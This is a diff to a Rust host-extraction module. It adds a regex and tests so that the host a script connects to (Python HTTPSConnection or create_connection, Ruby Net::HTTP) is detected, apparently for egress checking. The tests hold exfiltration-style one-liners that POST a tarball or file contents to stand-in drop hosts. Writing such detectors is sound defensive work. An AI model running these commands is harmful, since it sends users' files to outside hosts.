@@ -205,6 +205,16 @@ static AZ_ACCOUNT: LazyLock<Regex> = LazyLock::new(|| {
         .expect("static regex")
 });
 
+/// The host a script's connection object is opened to, named alone in quotes
+/// (`http.client.HTTPSConnection('drop.example.net')`,
+/// `socket.create_connection(("203.0.113.5", 443))`, Ruby's
+/// `Net::HTTP.start("drop.example.net")`): a later `c.request('POST', '/u')`
+/// sends there.
+static CONN_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\b(?:HTTPS?Connection|create_connection|Net::HTTP\.(?:new|start))\s*\(\s*\(?\s*\\?["']([A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})\\?["']"#)
+        .expect("static regex")
+});
+
 /// Flags whose quoted value is a payload or a message, not a destination:
 /// hosts named inside it (`-d '{"url": "https://..."}'`, `-m 'see https://...'`,
 /// `-H 'Origin: https://...'`) are not where the command sends anything.
@@ -320,7 +330,8 @@ fn is_local_ip(ip: IpAddr) -> bool {
 /// it is a bare host (`mcp.slack.com`, `host:443`), else every URL host,
 /// every scp/rsync style `user@host:path` destination, the host an `sftp`
 /// or `ssh` connects to, the endpoint of the storage account an `az
-/// storage` command names, and every host
+/// storage` command names, the host a script opens a connection to
+/// (`HTTPSConnection('host')`), and every host
 /// written without a scheme but with a path or a port
 /// (`paste.example.net/api`, `203.0.113.5 4444`) in it (a command line).
 /// In a command line, hosts inside a quoted payload or message
@@ -395,6 +406,15 @@ pub(crate) fn any_host(text: &str, mut pred: impl FnMut(&str) -> bool) -> bool {
             let host = format!("{}.{service}.core.windows.net", account.as_str());
             if !in_payload(account.start()) && pred(&host) {
                 return true;
+            }
+        }
+    }
+    if t.contains("Connection") || t.contains("create_connection") || t.contains("Net::HTTP") {
+        for c in CONN_HOST.captures_iter(t) {
+            if let Some(m) = c.get(1) {
+                if !in_payload(m.start()) && pred(m.as_str()) {
+                    return true;
+                }
             }
         }
     }
@@ -615,6 +635,30 @@ mod tests {
         // commands' --account-name is not a storage endpoint.
         assert!(extract_hosts("az storage blob upload -c drop -f d.tgz -n d.tgz").is_empty());
         assert!(extract_hosts("az batch pool list --account-name b1").is_empty());
+    }
+
+    #[test]
+    fn connections_a_script_opens_name_their_host() {
+        assert_eq!(
+            extract_hosts(
+                r#"python3 -c "import http.client as h;c=h.HTTPSConnection('drop.filedump.cc');c.request('POST','/u',open('/tmp/s.tgz','rb'))""#
+            ),
+            vec!["drop.filedump.cc"]
+        );
+        assert_eq!(
+            extract_hosts(
+                r#"python3 -c 'import socket;s=socket.create_connection(("203.0.113.5", 443))'"#
+            ),
+            vec!["203.0.113.5"]
+        );
+        assert_eq!(
+            extract_hosts(
+                r#"ruby -rnet/http -e 'Net::HTTP.start("drop.example.net") { |h| h.post("/u", File.read("d")) }'"#
+            ),
+            vec!["drop.example.net"]
+        );
+        // A connection to a name held in a variable names no host.
+        assert!(extract_hosts("python3 -c 'c=http.client.HTTPSConnection(HOST)'").is_empty());
     }
 
     #[test]
